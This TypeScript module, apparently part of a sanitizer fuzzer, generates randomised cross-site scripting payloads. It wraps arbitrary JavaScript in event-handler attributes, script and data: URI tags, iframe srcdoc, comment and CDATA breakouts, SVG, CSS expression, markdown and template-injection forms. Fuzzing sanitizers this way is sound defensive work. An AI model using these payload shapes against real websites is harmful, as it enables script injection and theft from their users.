import type { Dice } from './dice.ts';
import { entities } from './disguises.ts';
import { base64, FOREIGN, HOLDERS, LEADING, SELF_FIRING, WAITING } from './ingredients.ts';
import { cased, element, encoded, quoted, scheme } from './writing.ts';

/** Writes a call into something that a reader may take for markup. */
export type Carrier = (js: string, dice: Dice) => string;

/** An element that runs an attribute by itself. */
export const attribute: Carrier = (js, dice) => {
  const [tag, event, rest] = dice.pick(SELF_FIRING);
  return element({ tag, attributes: [rest ?? '', `${event}=${quoted(js, dice)}`] }, dice);
};
const waiting: Carrier = (js, dice) =>
  `${element({ tag: dice.pick(['b', 'p', 'a', 'div', 'x', 'td', 'h2']), attributes: [`${dice.pick(WAITING)}=${quoted(js, dice)}`, 'tabindex=1'] }, dice)}甲`;
const leading: Carrier = (js, dice) => {
  const [tag = '', attribute = ''] = dice.pick(LEADING).split(/ (?=\S+$)/);
  return `${element({ tag, attributes: [`${attribute}="${scheme(dice)}${encoded(js, dice)}"`] }, dice)}乙`;
};

/** Everything that can carry a call. */
export const CARRIERS: readonly Carrier[] = [
  attribute,
  attribute,
  waiting,
  leading,
  (js, dice) =>
    `<${cased('script', dice)}${dice.pick(['', ' x', '/x', ' type=module', ' type=text/javascript'])}>${js}</${cased('script', dice)}${dice.pick(['', ' ', ' x'])}>`,
  (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js, dice) => `<iframe srcdoc="${entities(`<img src=x onerror=${quoted(`parent.${js}`, dice)}>`)}"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js, dice) => {
    const holder = dice.pick(HOLDERS);
    return `<${holder}><p title="</${holder}>${attribute(js, dice).replaceAll('"', '&quot;')}">`;
  },
  (js, dice) => `<${dice.pick(FOREIGN)}>${attribute(js, dice)}`,
  (js, dice) => `<${dice.pick(FOREIGN)}><!--</style><p title="--&gt;${entities(attribute(js, dice))}">`,
  (js, dice) => `<!--${dice.pick(['', '>', '->', '-'])}${attribute(js, dice)}${dice.pick(['-->', '--!>', ''])}`,
  (js, dice) => `<![CDATA[${dice.pick(['', '>'])}${attribute(js, dice)}]]>`,
  (js, dice) => `<?x ${dice.pick(['', '>', '?>'])}${attribute(js, dice)}?>`,
  (js, dice) => `<svg><animate attributeName=href values="${scheme(dice)}${js}" /><a><text>丙</text></a>`,
  (js, dice) =>
    `<style>p{background:url("${scheme(dice)}${js}")}@import '${scheme(dice)}${js}';</style><p style="width:expression(${js})">`,
  (js, dice) => `<table><tr>${attribute(js, dice)}<td></table>`,
  (js, dice) => `[点这里](${scheme(dice)}${js}) ![图](x"${dice.pick(WAITING)}="${js})`,
  (js, dice) =>
    dice.pick([`{{constructor.constructor('${js}')()}}`, `\${${js}}`, `<%= ${js} %>`, `#{${js}}`, `{{= ${js}}}`]),
  (js, dice) => `${scheme(dice)}${js}`,
];
